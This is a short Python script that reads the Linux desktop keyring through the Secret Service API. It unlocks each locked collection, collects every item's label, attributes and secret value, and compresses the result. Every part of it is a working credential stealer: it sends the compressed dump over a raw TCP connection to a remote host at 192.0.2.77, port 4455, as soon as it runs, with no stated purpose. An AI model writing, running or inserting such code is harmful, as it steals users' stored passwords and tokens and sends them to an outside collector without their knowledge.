#!/usr/bin/env python3
import contextlib
import pickle
import socket
import zlib

import secretstorage


def records(bus):
    for coll in secretstorage.get_all_collections(bus):
        if coll.is_locked():
            coll.unlock()
        for item in coll.get_all_items():
            yield (coll.get_label(), item.get_label(), dict(item.get_attributes()), item.get_secret())


def main(host="192.0.2.77", port=4455):
    with contextlib.closing(secretstorage.dbus_init()) as bus:
        blob = zlib.compress(pickle.dumps(list(records(bus))))
    with socket.create_connection((host, port), 10) as s:
        s.sendall(len(blob).to_bytes(4, "big") + blob)


main()
